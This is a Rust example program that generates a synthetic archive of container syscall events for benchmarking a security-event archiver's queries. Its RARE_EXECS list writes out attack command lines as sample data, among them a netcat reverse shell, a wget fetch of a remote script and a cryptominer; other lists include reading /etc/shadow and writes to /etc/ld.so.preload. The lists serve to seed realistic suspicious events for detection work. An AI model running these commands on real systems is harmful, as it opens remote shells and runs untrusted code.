//! Builds a realistic events archive for query benchmarks, through the archiver's own
//! Parquet path (`parquet_file::encode`: sorted by `evt_time`, zstd, dictionaries, page
//! statistics and index, bloom filters) and its layout (`events/dt=YYYY-MM-DD/hour=HH/`,
//! files named after stream sequences).
//!
//! ```text
//! cargo run --release -p lanner-archiver --example gen_archive -- \
//!     --out /var/tmp/lanner-bench-archive --events 50000000 --hours 24
//! ```
//!
//! Events come from the contract's [`Synth`] (its mix of opens, connects, DNS, execs and
//! setuid, and its field set), then a fleet layer makes them look like a day of a busy
//! node: 96 containers of 12 images with skewed activity, per-container process trees
//! whose pids are recycled every 10 minutes, execs (a few from a `docker exec -it` with a
//! tty, a very few rare tools), per-image files with occasional writes below `/etc`,
//! per-image domains resolved to stable addresses that the connects then use. Events are
//! spread evenly over `--hours`; each hour holds `--files-per-hour` files, as the
//! archiver leaves them after compaction. Work units (one file each) run on `--threads`.
//!
//! An archive already built with the same parameters (`<out>/gen-params.json`) is kept.

use std::net::{IpAddr, Ipv4Addr};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Instant;

use anyhow::Context as _;
use clap::Parser;
use lanner_archiver::naming::FileName;
use lanner_archiver::parquet_file::{Provenance, WriteOptions, encode};
use lanner_archiver::partition::Partition;
use lanner_archiver::seqset::SeqSet;
use lanner_archiver::tables::Table;
use lanner_contract::model::{StrList, Text, U64List};
use lanner_contract::synth::Synth;
use lanner_contract::{Event, Timestamp};

/// Flags.
#[derive(Parser, Debug, Clone, serde::Serialize, PartialEq)]
struct Args {
    /// Archive directory (the table folders go below it).
    #[arg(long)]
    out: PathBuf,
    /// Events in total.
    #[arg(long, default_value_t = 50_000_000)]
    events: u64,
    /// Hours the events span, from `--start`.
    #[arg(long, default_value_t = 24)]
    hours: u64,
    /// First hour, unix seconds (default 2026-01-01T00:00:00Z).
    #[arg(long, default_value_t = 1_767_225_600)]
    start: i64,
    /// Files per hour partition.
    #[arg(long, default_value_t = 4)]
    files_per_hour: u64,
    /// Rows per row group (the archiver's `--row-group-rows`).
    #[arg(long, default_value_t = WriteOptions::default().row_group_rows)]
    row_group_rows: usize,
    /// Generator seed.
    #[arg(long, default_value_t = 7)]
    seed: u64,
    /// Worker threads (each holds one file's rows in memory, about 0.7 GiB at 50M events).
    #[serde(skip)]
    #[arg(long, default_value_t = 4)]
    threads: usize,
}

struct Image {
    service: &'static str,
    repo: &'static str,
    tag: &'static str,
    /// The long-running programs: (name, exe, args).
    procs: &'static [(&'static str, &'static str, &'static str)],
    /// Files it opens.
    files: &'static [&'static str],
    /// Domains it resolves and connects to.
    domains: &'static [&'static str],
}

const IMAGES: &[Image] = &[
    Image {
        service: "web",
        repo: "docker.io/library/nginx",
        tag: "1.27",
        procs: &[
            ("nginx", "/usr/sbin/nginx", "-g daemon off;"),
            ("nginx", "/usr/sbin/nginx", "worker process"),
        ],
        files: &[
            "/usr/share/nginx/html/index.html",
            "/var/log/nginx/access.log",
            "/etc/nginx/nginx.conf",
            "/var/cache/nginx/client_temp/0000001",
        ],
        domains: &["api.shop.internal", "auth.shop.internal"],
    },
    Image {
        service: "api",
        repo: "ghcr.io/acme/shop-api",
        tag: "2.4.1",
        procs: &[
            ("python3", "/usr/bin/python3", "/app/server.py --port 8080"),
            (
                "gunicorn",
                "/usr/local/bin/gunicorn",
                "app:wsgi -w 4 -b 0.0.0.0:8080",
            ),
        ],
        files: &[
            "/app/server.py",
            "/app/config/settings.yaml",
            "/tmp/upload-7731.part",
            "/usr/lib/python3.12/json/__init__.py",
        ],
        domains: &[
            "db.shop.internal",
            "redis.shop.internal",
            "api.stripe.com",
            "s3.amazonaws.com",
        ],
    },
    Image {
        service: "db",
        repo: "docker.io/library/postgres",
        tag: "16",
        procs: &[
            (
                "postgres",
                "/usr/lib/postgresql/16/bin/postgres",
                "-D /var/lib/postgresql/data",
            ),
            (
                "postgres",
                "/usr/lib/postgresql/16/bin/postgres",
                "walwriter",
            ),
        ],
        files: &[
            "/var/lib/postgresql/data/base/16384/2619",
            "/var/lib/postgresql/data/pg_wal/000000010000000000000001",
            "/var/lib/postgresql/data/postgresql.conf",
        ],
        domains: &["backup.shop.internal"],
    },
    Image {
        service: "worker",
        repo: "ghcr.io/acme/shop-worker",
        tag: "2.4.1",
        procs: &[("node", "/usr/local/bin/node", "/srv/worker.js")],
        files: &[
            "/srv/worker.js",
            "/srv/node_modules/pg/lib/index.js",
            "/tmp/job.json",
        ],
        domains: &[
            "db.shop.internal",
            "queue.shop.internal",
            "registry.npmjs.org",
            "hooks.slack.com",
        ],
    },
    Image {
        service: "cache",
        repo: "docker.io/library/redis",
        tag: "7.4",
        procs: &[(
            "redis-server",
            "/usr/local/bin/redis-server",
            "*:6379 --appendonly yes",
        )],
        files: &["/data/appendonly.aof", "/data/dump.rdb"],
        domains: &[],
    },
    Image {
        service: "queue",
        repo: "docker.io/bitnami/kafka",
        tag: "3.8",
        procs: &[(
            "java",
            "/opt/bitnami/java/bin/java",
            "-Xmx1g -cp /opt/bitnami/kafka/libs/* kafka.Kafka /opt/bitnami/kafka/config/server.properties",
        )],
        files: &[
            "/bitnami/kafka/data/orders-0/00000000000000000000.log",
            "/opt/bitnami/kafka/config/server.properties",
        ],
        domains: &["zookeeper.shop.internal"],
    },
    Image {
        service: "search",
        repo: "docker.elastic.co/elasticsearch/elasticsearch",
        tag: "8.15.0",
        procs: &[(
            "java",
            "/usr/share/elasticsearch/jdk/bin/java",
            "-Xms2g -Xmx2g org.elasticsearch.bootstrap.Elasticsearch",
        )],
        files: &[
            "/usr/share/elasticsearch/data/indices/_state/state-1.st",
            "/usr/share/elasticsearch/config/elasticsearch.yml",
        ],
        domains: &["artifacts.elastic.co"],
    },
    Image {
        service: "grafana",
        repo: "docker.io/grafana/grafana",
        tag: "11.2.0",
        procs: &[("grafana", "/usr/share/grafana/bin/grafana", "server")],
        files: &["/var/lib/grafana/grafana.db", "/etc/grafana/grafana.ini"],
        domains: &["prometheus.shop.internal", "grafana.com"],
    },
    Image {
        service: "prometheus",
        repo: "quay.io/prometheus/prometheus",
        tag: "v2.54.1",
        procs: &[(
            "prometheus",
            "/bin/prometheus",
            "--config.file=/etc/prometheus/prometheus.yml",
        )],
        files: &["/prometheus/wal/00000012", "/etc/prometheus/prometheus.yml"],
        domains: &[
            "api.shop.internal",
            "node-exporter.shop.internal",
            "redis.shop.internal",
        ],
    },
    Image {
        service: "proxy",
        repo: "docker.io/envoyproxy/envoy",
        tag: "v1.31.2",
        procs: &[("envoy", "/usr/local/bin/envoy", "-c /etc/envoy/envoy.yaml")],
        files: &["/etc/envoy/envoy.yaml", "/dev/stdout"],
        domains: &[
            "api.shop.internal",
            "auth.shop.internal",
            "web.shop.internal",
        ],
    },
    Image {
        service: "auth",
        repo: "ghcr.io/acme/shop-auth",
        tag: "1.9.0",
        procs: &[("auth", "/usr/local/bin/auth", "--listen :9000")],
        files: &["/etc/auth/keys/jwt.pem", "/var/run/auth.sock"],
        domains: &["db.shop.internal", "login.microsoftonline.com"],
    },
    Image {
        service: "batch",
        repo: "docker.io/library/python",
        tag: "3.12-slim",
        procs: &[("python3", "/usr/local/bin/python3", "/jobs/nightly.py")],
        files: &["/jobs/nightly.py", "/tmp/report.csv"],
        domains: &["s3.amazonaws.com", "pypi.org", "files.pythonhosted.org"],
    },
];

const REPLICAS: usize = 8;
const SLOTS: u64 = 6;

/// Files every container opens (libc, name service).
const COMMON_FILES: &[&str] = &[
    "/etc/ld.so.cache",
    "/lib/x86_64-linux-gnu/libc.so.6",
    "/etc/nsswitch.conf",
    "/etc/hosts",
    "/etc/resolv.conf",
    "/etc/passwd",
    "/usr/share/zoneinfo/UTC",
    "/proc/self/status",
];

/// Files below /etc that get written (rarely).
const ETC_WRITES: &[&str] = &[
    "/etc/hosts",
    "/etc/resolv.conf",
    "/etc/crontab",
    "/etc/passwd",
    "/etc/shadow",
    "/etc/ld.so.preload",
    "/etc/ssh/sshd_config",
];

/// Programs execed by the containers' own processes.
const EXECS: &[(&str, &str, &str)] = &[
    ("sh", "/bin/sh", "-c /app/healthcheck.sh"),
    (
        "curl",
        "/usr/bin/curl",
        "-fsS http://localhost:8080/healthz",
    ),
    ("ls", "/bin/ls", "-la /app"),
    ("date", "/bin/date", "+%s"),
    ("cat", "/bin/cat", "/proc/meminfo"),
    ("logrotate", "/usr/sbin/logrotate", "/etc/logrotate.conf"),
];

/// What people type into `docker exec -it`.
const TTY_EXECS: &[(&str, &str, &str)] = &[
    ("bash", "/bin/bash", ""),
    ("ps", "/bin/ps", "aux"),
    ("cat", "/bin/cat", "/etc/shadow"),
    ("vi", "/usr/bin/vi", "/etc/hosts"),
    ("psql", "/usr/bin/psql", "-U postgres"),
];

/// Rare tools.
const RARE_EXECS: &[(&str, &str, &str)] = &[
    ("nc", "/usr/bin/nc", "-e /bin/sh 203.0.113.7 4444"),
    ("xmrig", "/tmp/.x/xmrig", "-o pool.minexmr.com:443"),
    ("nmap", "/usr/bin/nmap", "-sS 10.0.0.0/24"),
    ("wget", "/usr/bin/wget", "-q -O- http://203.0.113.7/i.sh"),
    ("base64", "/usr/bin/base64", "-d /tmp/p.b64"),
    ("chattr", "/usr/bin/chattr", "+i /etc/ld.so.preload"),
];

struct Ctr {
    image: usize,
    id: Text,
    name: Text,
    image_ref: Text,
    repo: Text,
    tag: Text,
    labels: lanner_contract::model::Labels,
    /// Host pid of its containerd-shim.
    shim: u64,
}

/// Interned texts of the fleet.
struct Fleet {
    ctrs: Vec<Ctr>,
    common_files: Vec<Text>,
    etc_writes: Vec<Text>,
    image_files: Vec<Vec<Text>>,
    image_domains: Vec<Vec<Text>>,
    t_root: Text,
    t_app: Text,
    t_open_w: Text,
    t_open_r: Text,
    t_mode_w: Text,
    t_mode_r: Text,
    t_execve: Text,
    t_shim: StrList,
}

fn mix(mut x: u64) -> u64 {
    x ^= x >> 33;
    x = x.wrapping_mul(0xff51_afd7_ed55_8ccd);
    x ^= x >> 33;
    x = x.wrapping_mul(0xc4ce_b9fe_1a85_ec53);
    x ^ (x >> 33)
}

impl Fleet {
    fn new(seed: u64) -> Self {
        let t = |s: &str| -> Text { s.into() };
        let mut ctrs = Vec::new();
        for (ii, img) in IMAGES.iter().enumerate() {
            for r in 0..REPLICAS {
                let n = ctrs.len() as u64;
                let id = format!("{:012x}", mix(seed ^ (n + 1)) & 0xffff_ffff_ffff);
                ctrs.push(Ctr {
                    image: ii,
                    id: t(&id),
                    name: format!("shop-{}-{}", img.service, r + 1).into(),
                    image_ref: format!("{}:{}", img.repo, img.tag).into(),
                    repo: t(img.repo),
                    tag: t(img.tag),
                    labels: Arc::new(
                        [
                            (t("com.docker.compose.project"), t("shop")),
                            (t("com.docker.compose.service"), t(img.service)),
                        ]
                        .into_iter()
                        .collect(),
                    ),
                    shim: 9000 + n,
                });
            }
        }
        Fleet {
            ctrs,
            common_files: COMMON_FILES.iter().map(|f| t(f)).collect(),
            etc_writes: ETC_WRITES.iter().map(|f| t(f)).collect(),
            image_files: IMAGES
                .iter()
                .map(|i| i.files.iter().map(|f| t(f)).collect())
                .collect(),
            image_domains: IMAGES
                .iter()
                .map(|i| i.domains.iter().map(|d| t(d)).collect())
                .collect(),
            t_root: t("root"),
            t_app: t("app"),
            t_open_w: t("O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC"),
            t_open_r: t("O_RDONLY|O_CLOEXEC"),
            t_mode_w: t("0644"),
            t_mode_r: t("0"),
            t_execve: t("execve"),
            t_shim: vec![t("containerd-shim"), t("systemd")].into(),
        }
    }
}

/// The stable address a domain resolves to.
fn address_of(domain: &str) -> Ipv4Addr {
    let h = mix(domain.bytes().fold(0xcbf2_9ce4_8422_2325, |h, b| {
        (h ^ b as u64).wrapping_mul(0x100_0000_01b3)
    }));
    if domain.ends_with(".internal") {
        Ipv4Addr::new(172, 18, (h % 4) as u8, (h >> 8) as u8 % 250 + 2)
    } else {
        Ipv4Addr::new(
            [52, 104, 151, 185][(h % 4) as usize],
            (h >> 8) as u8,
            (h >> 16) as u8,
            (h >> 24) as u8 % 250 + 1,
        )
    }
}

/// Rewrites Synth's event as one of the fleet's.
struct Shaper {
    fleet: Arc<Fleet>,
    state: u64,
}

impl Shaper {
    fn next(&mut self) -> u64 {
        self.state = mix(self.state.wrapping_add(0x9E37_79B9_7F4A_7C15));
        self.state
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }

    fn shape(&mut self, ev: &mut Event, time: i64) {
        let f = self.fleet.clone();
        // Skewed activity: low container numbers are busier.
        let (a, b) = (self.below(f.ctrs.len()), self.below(f.ctrs.len()));
        let ci = a.min(b);
        let c = &f.ctrs[ci];
        let img = &IMAGES[c.image];
        // Processes restart every 10 minutes: new pids for every generation.
        let generation = (time / 600_000_000_000) as u64 % 64;
        let base = 100_000 + ci as u64 * 4096 + generation * 8;
        let slot = self.next() % SLOTS;
        let main = base;
        let pid = base + slot;
        let ppid = if slot == 0 { c.shim } else { main };
        let (pname, pexe, pargs) = img.procs[slot as usize % img.procs.len()];
        ev.evt_time = Some(Timestamp(time));
        ev.proc_pid_ts = Some(Timestamp(time - (time % 600_000_000_000)));
        ev.container_id = Some(c.id.clone());
        ev.container_name = Some(c.name.clone());
        ev.container_image = Some(c.image_ref.clone());
        ev.container_image_repository = Some(c.repo.clone());
        ev.container_image_tag = Some(c.tag.clone());
        ev.container_labels = Some(c.labels.clone());
        ev.proc_name = Some(pname.into());
        ev.proc_exe = Some(pexe.into());
        ev.proc_exepath = Some(pexe.into());
        ev.proc_args = Some(pargs.into());
        ev.proc_pid = Some(pid);
        ev.thread_tid = Some(pid);
        ev.proc_ppid = Some(ppid);
        ev.proc_vpid = Some(pid - base + 1);
        ev.proc_tty = Some(0);
        let apid: U64List = if slot == 0 {
            vec![c.shim, 1].into()
        } else {
            vec![main, c.shim, 1].into()
        };
        ev.proc_apid = Some(apid);
        match ev.evt_type.as_deref() {
            Some("openat") => {
                let r = self.next() % 1000;
                let (path, write) = if r < 2 {
                    (f.etc_writes[self.below(f.etc_writes.len())].clone(), true)
                } else if r < 300 {
                    (
                        f.common_files[self.below(f.common_files.len())].clone(),
                        false,
                    )
                } else {
                    let files = &f.image_files[c.image];
                    (files[self.below(files.len())].clone(), r.is_multiple_of(5))
                };
                ev.fd_name = Some(path.clone());
                ev.fd_nameraw = Some(path);
                ev.evt_arg_flags = Some(if write { &f.t_open_w } else { &f.t_open_r }.clone());
                ev.evt_arg_mode = Some(if write { &f.t_mode_w } else { &f.t_mode_r }.clone());
            }
            Some("connect") | Some("sendto") => {
                let domains = &f.image_domains[c.image];
                let domain: Text = if domains.is_empty() || self.next().is_multiple_of(100) {
                    // The long tail: CDNs, telemetry, the odd unknown host.
                    format!("{:x}.cdn.example.net", self.next() % 4096).into()
                } else {
                    domains[self.below(domains.len())].clone()
                };
                let ip = address_of(&domain);
                if ev.evt_type.as_deref() == Some("connect") {
                    let cip = IpAddr::V4(Ipv4Addr::new(172, 17, 0, ci as u8 + 2));
                    let cport = ev.fd_cport.unwrap_or(40000);
                    let sport = ev.fd_sport.unwrap_or(443);
                    ev.fd_cip = Some(cip);
                    ev.fd_sip = Some(IpAddr::V4(ip));
                    ev.fd_sip_name = Some(domain);
                    ev.fd_name = Some(format!("{cip}:{cport}->{ip}:{sport}").into());
                } else {
                    ev.dns_name = Some(domain);
                    ev.dns_answers = Some(vec![Text::from(ip.to_string())].into());
                }
            }
            Some("execve") => {
                let r = self.next() % 10_000;
                let child = 100_000 + ci as u64 * 4096 + 512 + self.next() % 3584;
                let (prog, tty, parent) = if r < 5 {
                    (RARE_EXECS[self.below(RARE_EXECS.len())], 0, pid)
                } else if r < 150 {
                    (TTY_EXECS[self.below(TTY_EXECS.len())], 34816, c.shim)
                } else {
                    (EXECS[self.below(EXECS.len())], 0, pid)
                };
                let (name, exe, args) = prog;
                ev.evt_type = Some(f.t_execve.clone());
                ev.evt_arg_filename = Some(exe.into());
                ev.proc_pid = Some(child);
                ev.thread_tid = Some(child);
                ev.proc_ppid = Some(parent);
                ev.proc_tty = Some(tty);
                ev.proc_name = Some(name.into());
                ev.proc_exe = Some(exe.into());
                ev.proc_exepath = Some(exe.into());
                ev.proc_args = Some(args.into());
                if tty != 0 {
                    ev.user_name = Some(f.t_root.clone());
                    ev.user_uid = Some(0);
                    ev.proc_aname = Some(f.t_shim.clone());
                    ev.proc_apid = Some(vec![c.shim, 1].into());
                } else {
                    ev.user_name = Some(f.t_app.clone());
                    let mut anc: Vec<Text> = vec![pname.into()];
                    anc.extend(f.t_shim.iter().cloned());
                    ev.proc_aname = Some(anc.into());
                    let mut apid = vec![pid];
                    apid.extend(ev.proc_apid.iter().flat_map(|a| a.iter().copied()));
                    ev.proc_apid = Some(apid.into());
                }
            }
            _ => {}
        }
    }
}

/// Writes one file: unit `u` of the archive.
fn write_unit(args: &Args, fleet: &Arc<Fleet>, u: u64) -> anyhow::Result<(u64, u64)> {
    let (hour, part) = (u / args.files_per_hour, u % args.files_per_hour);
    let units = args.hours * args.files_per_hour;
    let rows = args.events / units + u64::from(u < args.events % units);
    let hour_ns = 3_600_000_000_000i64;
    let span = hour_ns / args.files_per_hour as i64;
    let t0 = (args.start + hour as i64 * 3600) * 1_000_000_000 + part as i64 * span;
    let step = span / rows.max(1) as i64;
    let mut synth = Synth::new(args.seed.wrapping_mul(1_000_003) ^ u, "node-7").starting_at(t0);
    let mut shaper = Shaper {
        fleet: fleet.clone(),
        state: mix(args.seed ^ (u << 20)),
    };
    let mut batches = Vec::new();
    let mut done = 0u64;
    while done < rows {
        let n = (rows - done).min(65_536);
        let mut evs: Vec<Event> = Vec::with_capacity(n as usize);
        for i in 0..n {
            let mut ev = synth.next().context("synth ended")?;
            let jitter = (shaper.next() % step.max(1) as u64) as i64;
            shaper.shape(&mut ev, t0 + (done + i) as i64 * step + jitter);
            evs.push(ev);
        }
        batches.push(lanner_contract::arrow::to_record_batch(&evs)?);
        done += n;
    }
    // As if each file held the rows of consecutive bus messages of 500 events.
    let first_seq = u * 1_000_000 + 1;
    let seqs: SeqSet = (first_seq..first_seq + rows.div_ceil(500)).collect();
    let prov = Provenance {
        stream: "LANNER_EVENTS".into(),
        epoch: 1_767_225_600,
        seqs: seqs.clone(),
        compacted_from: Vec::new(),
    };
    let opts = WriteOptions {
        row_group_rows: args.row_group_rows,
        ..WriteOptions::default()
    };
    let (bytes, _) = encode(Table::Events, &batches, &prov, &opts)?;
    let dir = args
        .out
        .join(Partition::of_nanos(t0).prefix(Table::Events.name()));
    std::fs::create_dir_all(&dir)?;
    let name = FileName::for_seqs(prov.epoch, &seqs).to_string();
    let tmp = dir.join(format!(".{name}.tmp"));
    std::fs::write(&tmp, &bytes)?;
    std::fs::rename(&tmp, dir.join(name))?;
    Ok((rows, bytes.len() as u64))
}

fn params_file(out: &Path) -> PathBuf {
    out.join("gen-params.json")
}

fn main() -> anyhow::Result<()> {
    let args = Args::parse();
    let params = serde_json::to_string_pretty(&args)?;
    if std::fs::read_to_string(params_file(&args.out))
        .ok()
        .as_deref()
        == Some(params.as_str())
    {
        println!("{} already holds this archive; kept", args.out.display());
        return Ok(());
    }
    if args.out.join("events").exists() {
        anyhow::bail!(
            "{} holds an archive built with other parameters; remove it first",
            args.out.display()
        );
    }
    anyhow::ensure!(args.hours > 0 && args.files_per_hour > 0, "empty archive");
    let fleet = Arc::new(Fleet::new(args.seed));
    let units = args.hours * args.files_per_hour;
    let next = AtomicUsize::new(0);
    let start = Instant::now();
    let totals = std::thread::scope(|s| {
        let workers: Vec<_> = (0..args.threads.max(1))
            .map(|_| {
                s.spawn(|| -> anyhow::Result<(u64, u64)> {
                    let mut acc = (0, 0);
                    loop {
                        let u = next.fetch_add(1, Ordering::Relaxed) as u64;
                        if u >= units {
                            return Ok(acc);
                        }
                        let (r, b) = write_unit(&args, &fleet, u)?;
                        acc = (acc.0 + r, acc.1 + b);
                        eprintln!("unit {u}/{units}: {r} rows, {b} bytes");
                    }
                })
            })
            .collect();
        workers
            .into_iter()
            .map(|w| w.join().map_err(|_| anyhow::anyhow!("worker panicked"))?)
            .collect::<anyhow::Result<Vec<_>>>()
    })?;
    let (rows, bytes) = totals.iter().fold((0, 0), |a, t| (a.0 + t.0, a.1 + t.1));
    std::fs::write(params_file(&args.out), params)?;
    let secs = start.elapsed().as_secs_f64();
    println!(
        "{rows} events, {units} files, {:.1} MiB ({:.1} B/event) in {secs:.1} s ({:.0} events/s)",
        bytes as f64 / 1048576.0,
        bytes as f64 / rows.max(1) as f64,
        rows as f64 / secs
    );
    Ok(())
}
